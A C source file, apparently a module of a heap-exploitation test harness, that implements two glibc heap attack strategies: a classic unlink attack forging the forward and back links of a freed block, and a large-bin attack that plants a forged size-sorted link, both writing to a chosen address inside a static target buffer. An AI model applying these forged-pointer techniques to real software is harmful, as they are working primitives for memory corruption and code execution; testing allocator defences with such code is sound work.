// Writes to a chosen address while a list is changed: the pointers in a free block of a doubly linked list are forged.
#include "attack.h"

#include <stdlib.h>

enum { SPRAY = 512 };

static bool target_changed(void) {
    for (size_t i = 0; i < 512; i++) {
        if (static_target[i]) return true;
    }
    return false;
}

/// A block too large for caches and lists of one direction is freed, with a live one behind it, so that it does not melt into
/// what is there; the attacker forges `words` of its content, and the victim goes on allocating and freeing.
static void forge(size_t bytes, const uint64_t *words, size_t count) {
    settle_in();
    char *const victim = take(bytes);
    void *const barrier = take(0x3F0);
    void *const neighbour = take(bytes);
    void *const other_barrier = take(0x3F0);
    free(victim);
    for (size_t i = 0; i < count; i++) {
        if (words[i]) write_word(victim + i * 8, words[i]);
    }
    free(neighbour);
    if (target_changed()) end_round(SUCCESS);
    for (size_t i = 0; i < SPRAY; i++) {
        void *const block = take(i % 4 == 0 ? bytes + 0x200 : bytes - 0x20 * (i % 4 - 1));
        if (hits_target(block, bytes)) end_round(SUCCESS);
        if (i % 3 == 0) free(block);
        if (target_changed()) end_round(SUCCESS);
    }
    free(barrier);
    free(other_barrier);
}

/// Both links point to the target, so that taking the block off its list writes there.
static void classic(void) {
    const uint64_t target = (uintptr_t)&static_target[64];
    const uint64_t words[] = {target - 24, target - 16};
    forge(1500 + dice(4) * 16, words, 2);
}

/// glibc's list of large blocks by size: a smaller one is put in behind a forged link, without a look at it.
static void by_size(void) {
    const uint64_t target = (uintptr_t)&static_target[64];
    settle_in();
    // Whatever other free blocks there are of about the size is used up first.
    for (size_t i = 0; i < SPRAY; i++) (void)take(0x3F0);
    char *const larger = take(0x428);
    (void)take(0x3F0);
    char *const smaller = take(0x418);
    (void)take(0x3F0);
    free(larger);
    (void)take(0x438);
    write_word(larger + 24, target - 32);
    free(smaller);
    (void)take(0x438);
    end_if_reached(target_changed());
}

const struct strategy unlink_strategies[] = {{"unlink", classic}, {"unlink-sorted", by_size}, {NULL, NULL}};
